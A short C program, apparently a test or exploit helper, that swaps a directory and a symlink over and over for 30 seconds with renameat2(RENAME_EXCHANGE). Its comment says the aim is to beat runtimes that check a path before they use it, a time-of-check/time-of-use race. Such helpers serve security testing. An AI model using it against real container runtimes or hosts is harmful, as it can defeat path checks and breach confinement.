// SPDX-License-Identifier: MIT
/* swap A B: exchange two names, again and again for half a minute: now A is the directory, now the
 * symlink. A runtime that looks at a path and then uses the path is, sooner or later, between the
 * two. (renameat2(2)) */
#include <fcntl.h>
#include <stdio.h>
#include <time.h>

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    for (time_t end = time(NULL) + 30; time(NULL) < end;)
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
            perror(argv[1]);
            return 1;
        }
    return 0;
}
